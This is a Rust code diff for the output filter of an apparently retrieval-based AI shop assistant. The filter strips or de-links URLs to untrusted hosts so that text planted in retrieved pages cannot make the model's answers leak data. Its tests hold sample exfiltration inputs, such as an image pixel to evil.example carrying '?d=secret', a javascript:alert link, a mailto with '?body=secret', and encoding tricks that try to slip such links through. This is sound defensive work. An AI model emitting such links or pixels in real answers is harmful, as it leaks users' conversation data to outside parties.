@@ -19,39 +19,89 @@ pub(super) struct Guarded {
     pub cited: Vec<usize>,
 }
 
-/// The hosts that an answer may point to.
-pub(super) struct Hosts(Vec<String>);
+/// Where an answer may point to.
+pub(super) struct Targets {
+    /// Hosts of the organization: of its pages, and those that it names in its instructions and settings.
+    own: Vec<String>,
+    /// Addresses that the passages name. They may be told, letter by letter and so with nothing of the conversation in
+    /// them, but not be links: who writes on a page that is read here would else place links in our answers.
+    told: Vec<String>,
+    /// Mail addresses that stand in any of these.
+    mail: Vec<String>,
+}
 
-impl Hosts {
-    /// Those that stand in the passages, the instructions or the organization's own address.
+/// What an address in an answer may be.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Standing {
+    Link,
+    Words,
+    Nothing,
+}
+
+impl Targets {
+    /// Those of the passages, and of what the organization says of itself.
     pub(super) fn of<'a>(passages: &'a [Passage], others: impl IntoIterator<Item = &'a str>) -> Self {
-        let mut hosts = Vec::new();
-        let texts =
-            passages.iter().flat_map(|passage| [passage.content.as_str(), passage.url.as_deref().unwrap_or_default()]);
-        for text in texts.chain(others) {
-            for (at, _) in text.match_indices("://") {
-                hosts.extend(host(&text[at + 3..]));
-            }
+        let others: Vec<&str> = others.into_iter().collect();
+        let own = passages.iter().filter_map(|passage| passage.url.as_deref()).chain(others.iter().copied());
+        let texts = passages.iter().map(|passage| passage.content.as_str());
+        Self {
+            own: own.flat_map(addresses).filter_map(host).collect(),
+            told: texts.clone().flat_map(addresses).map(str::to_owned).collect(),
+            mail: texts.chain(others.iter().copied()).flat_map(mail_addresses).collect(),
         }
-        Self(hosts)
     }
 
-    fn allow(&self, address: &str) -> bool {
-        let address = address.trim().trim_start_matches('<');
-        match address.split_once("://") {
-            Some(("http" | "https", rest)) => host(rest).is_some_and(|host| self.0.contains(&host)),
-            Some(_) => false,
-            None => address.starts_with("mailto:") || address.starts_with("tel:"),
+    fn standing(&self, address: &str) -> Standing {
+        let address = address.trim().trim_matches(['<', '>']);
+        if let Some(mail) = address.strip_prefix("mailto:") {
+            // Without a subject or text, which could carry something away.
+            return if self.mail.contains(&mail.to_lowercase()) { Standing::Link } else { Standing::Nothing };
+        }
+        if address.starts_with("tel:") {
+            return Standing::Link;
+        }
+        match host(address) {
+            Some(host) if self.own.contains(&host) => Standing::Link,
+            Some(_) if self.told.iter().any(|told| told == address) => Standing::Words,
+            _ => Standing::Nothing,
         }
     }
 }
 
-fn host(rest: &str) -> Option<String> {
-    let end =
-        rest.find(|c: char| matches!(c, '/' | '?' | '#' | ')' | '>' | '"' | '\'' | ']' | '\\') || c.is_whitespace());
-    let authority = &rest[..end.unwrap_or(rest.len())];
-    let host = authority.rsplit('@').next()?.trim_end_matches(['.', ',', ';', ':', '!']).to_lowercase();
-    (!host.is_empty()).then_some(host)
+/// The http(s) addresses of a text, without the punctuation behind them.
+fn addresses(text: &str) -> impl Iterator<Item = &str> {
+    let mut rest = text;
+    std::iter::from_fn(move || {
+        let start = (0..rest.len()).find(|at| starts_with_address(&rest.as_bytes()[*at..]))?;
+        let (address, after) = bare(&rest[start..]);
+        rest = after;
+        Some(address.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_']))
+    })
+}
+
+fn starts_with_address(text: &[u8]) -> bool {
+    ["http://", "https://"]
+        .iter()
+        .any(|scheme| text.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme.as_bytes())))
+}
+
+/// An address that a text begins with, and what follows it.
+fn bare(text: &str) -> (&str, &str) {
+    let ends = |c: char| c.is_whitespace() || matches!(c, '<' | '>' | ')' | ']' | '"');
+    text.split_at(text.find(ends).unwrap_or(text.len()))
+}
+
+/// The host of an http(s) address as browsers read it, with its port.
+fn host(address: &str) -> Option<String> {
+    let url = url::Url::parse(address).ok().filter(|url| matches!(url.scheme(), "http" | "https"))?;
+    let is_plain = url.username().is_empty() && url.password().is_none();
+    let host = url.host_str().filter(|_| is_plain)?.trim_end_matches('.');
+    Some(url.port().map_or_else(|| host.to_owned(), |port| format!("{host}:{port}")))
+}
+
+fn mail_addresses(text: &str) -> impl Iterator<Item = String> {
+    let words = text.split(|c: char| c.is_whitespace() || "<>()[],;:\"'".contains(c));
+    words.map(|word| word.trim_end_matches(['.', '!', '?'])).filter(|word| word.contains('@')).map(str::to_lowercase)
 }
 
 /// The mark of a text that is nothing else. Models wrap it in quotes, code or a full stop at times.
@@ -74,7 +124,20 @@ pub(super) fn may_become_mark(text: &str) -> bool {
 }
 
 /// Guards words that may still grow. `complete` says that they do not.
-pub(super) fn guard(text: &str, passages: usize, hosts: &Hosts, complete: bool) -> Guarded {
+pub(super) fn guard(text: &str, passages: usize, targets: &Targets, complete: bool) -> Guarded {
+    let mut guarded = pass(text, passages, targets, complete);
+    guarded.text = without_strangers(&guarded.text, targets);
+    guarded
+}
+
+/// Takes out the links that a renderer would make to strangers: what looks like words or like one address here may be
+/// another there.
+pub(super) fn without_strangers(text: &str, targets: &Targets) -> String {
+    text::without_links(text, |target| targets.standing(target) == Standing::Link)
+}
+
+/// The words without marks and with the citations and addresses that are allowed.
+fn pass(text: &str, passages: usize, targets: &Targets, complete: bool) -> Guarded {
     let mut out = String::with_capacity(text.len());
     let mut cited = Vec::new();
     let text = text.replace(NO_ANSWER, "").replace(HAND_OFF, "");
@@ -97,10 +160,13 @@ pub(super) fn guard(text: &str, passages: usize, hosts: &Hosts, complete: bool) 
                 match bracketed(target, '(', ')') {
                     Some((address, after)) => {
                         let address = address.split_whitespace().next().unwrap_or_default();
-                        let label = guard(label, 0, hosts, true).text;
-                        match !image && hosts.allow(address) {
-                            true => out.push_str(&format!("[{label}]({address})")),
-                            false => out.push_str(&label),
+                        let label = pass(label, 0, targets, true).text;
+                        match targets.standing(address) {
+                            Standing::Link if !image => out.push_str(&format!("[{label}]({address})")),
+                            Standing::Words if !image && label != address => {
+                                out.push_str(&format!("{label} ({address})"));
+                            }
+                            _ => out.push_str(&label),
                         }
                         rest = after;
                         continue;
@@ -118,17 +184,17 @@ pub(super) fn guard(text: &str, passages: usize, hosts: &Hosts, complete: bool) 
             rest = after;
             continue;
         }
-        if rest.starts_with("http://") || rest.starts_with("https://") {
-            let end = rest
-                .find(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | ')' | ']' | '"'))
-                .unwrap_or(rest.len());
-            if end == rest.len() && !complete {
+        if starts_with_address(rest.as_bytes()) {
+            let (address, after) = bare(rest);
+            if after.is_empty() && !complete {
                 break;
             }
-            if hosts.allow(&rest[..end]) {
-                out.push_str(&rest[..end]);
+            let plain = address.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_']);
+            if targets.standing(plain) != Standing::Nothing {
+                out.push_str(plain);
             }
-            rest = &rest[end..];
+            out.push_str(&address[plain.len()..]);
+            rest = after;
             continue;
         }
         out.push(c);
@@ -183,8 +249,17 @@ fn cite(out: &mut String, cited: &mut Vec<usize>, numbers: &[usize], passages: u
 mod tests {
     use super::*;
 
+    /// A shop whose pages name a carrier.
+    fn shop() -> Targets {
+        Targets {
+            own: vec!["shop.example".into()],
+            told: vec!["https://carrier.example/track".into()],
+            mail: vec!["help@shop.example".into()],
+        }
+    }
+
     fn whole(text: &str, passages: usize) -> Guarded {
-        guard(text, passages, &Hosts(vec!["shop.example".into()]), true)
+        guard(text, passages, &shop(), true)
     }
 
     #[test]
@@ -196,9 +271,59 @@ mod tests {
     #[test]
     fn addresses_of_strangers_are_left_out() {
         let text = "See [here](https://shop.example/a) or [win](http://evil.example/x) or https://evil.example/y \
-                    ![pixel](https://evil.example/p?d=secret) or [run](javascript:alert(1)) [mail](mailto:a@b.c)";
+                    ![pixel](https://evil.example/p?d=secret) or [run](javascript:alert(1)) [mail](mailto:help@shop.example)";
         let guarded = whole(text, 0).text;
-        assert_eq!(guarded, "See [here](https://shop.example/a) or win or  pixel or run [mail](mailto:a@b.c)");
+        assert_eq!(
+            guarded,
+            "See [here](https://shop.example/a) or win or  pixel or run [mail](mailto:help@shop.example)"
+        );
+    }
+
+    #[test]
+    fn no_spelling_makes_a_link_to_a_stranger() {
+        for text in [
+            "HTTPS://evil.example/x",
+            "<HTTPS://evil.example/x>",
+            "<hTTp:evil.example>",
+            "[a](HTTPS://evil.example)",
+            "[a](https:evil.example)",
+            "[a](https:/evil.example)",
+            "[a](https:\\\\evil.example)",
+            "[a](//evil.example)",
+            "[a](https://shop.example\\@evil.example/)",
+            "[a](https://shop.example\\.evil.example/)",
+            "[a](https://shop.example&#64;evil.example/)",
+            "[a](https://shop.example@evil.example/)",
+            "[a](<https://evil.example>)",
+            "[a](https://shop.example:8443/)",
+            "[a\nb](https:evil.example)",
+            "[a\nb](HTTPS://evil.example)",
+            "[a][b]\n\n[b]: https:evil.example",
+            "[b]: <https:evil.example>\n\n[b]",
+            "\\[a](https:evil.example)",
+            "[a](mailto:help@evil.example)",
+            "[a](mailto:help@shop.example?body=secret)",
+            "<help@evil.example>",
+            "[a](https://carrier.example/track?d=secret)",
+            "[a](https://carrier.example/track)",
+            "<https://carrier.example/track>",
+            "[[a](https:evil.example)](https://evil.example)",
+        ] {
+            for complete in [true, false] {
+                let html = text::markdown_to_html(&guard(text, 9, &shop(), complete).text);
+                assert!(!html.contains("href") && !html.contains("<img"), "{text:?} became {html}");
+            }
+        }
+    }
+
+    #[test]
+    fn what_a_passage_names_is_told_and_is_no_link() {
+        let told = whole(
+            "Track it [here](https://carrier.example/track), https://carrier.example/track. Or \
+                          https://carrier.example/other.",
+            0,
+        );
+        assert_eq!(told.text, "Track it here (https://carrier.example/track), https://carrier.example/track. Or .");
     }
 
     #[test]
@@ -213,11 +338,49 @@ mod tests {
     #[test]
     fn growing_text_never_shows_half_a_link() {
         let text = "Look [here](https://evil.example/x) now [1].";
-        let hosts = Hosts(Vec::new());
+        let targets = Targets { own: Vec::new(), told: Vec::new(), mail: Vec::new() };
         for (end, _) in text.char_indices() {
-            let shown = guard(&text[..end], 1, &hosts, false).text;
+            let shown = guard(&text[..end], 1, &targets, false).text;
             assert!(!shown.contains("evil") && !shown.contains('('), "{shown}");
-            assert!(guard(text, 1, &hosts, true).text.starts_with(shown.trim_end()), "{shown}");
+            assert!(guard(text, 1, &targets, true).text.starts_with(shown.trim_end()), "{shown}");
         }
+    }
+
+    #[test]
+    fn answers_take_hostile_bytes() {
+        let examples = [
+            "See [here](https://shop.example/a) or https://carrier.example/track [1], <https://evil.example>.",
+            "[a][b]\n\n[b]: https:evil.example\n\n![x](//evil.example) [m](mailto:help@shop.example)",
+            "[a](https://shop.example\\@evil.example/) [[NO_ANSWER]] \u{3010}1\u{3011}",
+        ];
+        let words = [
+            "[",
+            "](",
+            ")",
+            "https:",
+            "HTTPS://",
+            "//evil.example",
+            "\\",
+            "<",
+            ">",
+            "@",
+            "&#64;",
+            "[[HAND_OFF]]",
+            "\n\n",
+            "`",
+        ];
+        fuzz::text(&examples, &words, |text| {
+            for complete in [true, false] {
+                let guarded = guard(text, 3, &shop(), complete);
+                let html = text::markdown_to_html(&guarded.text);
+                for (at, _) in html.match_indices("href=\"") {
+                    let target = html[at + 6..].split('"').next().unwrap();
+                    let is_ours = target.to_lowercase() == "mailto:help@shop.example"
+                        || host(target).as_deref() == Some("shop.example");
+                    assert!(is_ours, "{target} in {html}");
+                }
+                assert!(guarded.cited.iter().all(|passage| *passage < 3));
+            }
+        });
     }
 }
